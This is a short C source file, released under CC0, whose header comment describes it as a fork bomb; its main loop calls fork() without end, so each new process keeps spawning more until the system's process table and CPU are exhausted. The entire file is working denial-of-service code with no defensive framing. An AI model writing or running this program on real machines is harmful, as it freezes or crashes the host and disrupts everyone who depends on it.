// SPDX-License-Identifier: CC0-1.0
/* Purpose: a fork bomb: every process forks for ever, whether it works or not. */
#include <unistd.h>

int main(void)
{
    for (;;)
        if (fork() < 0)
            continue;
}
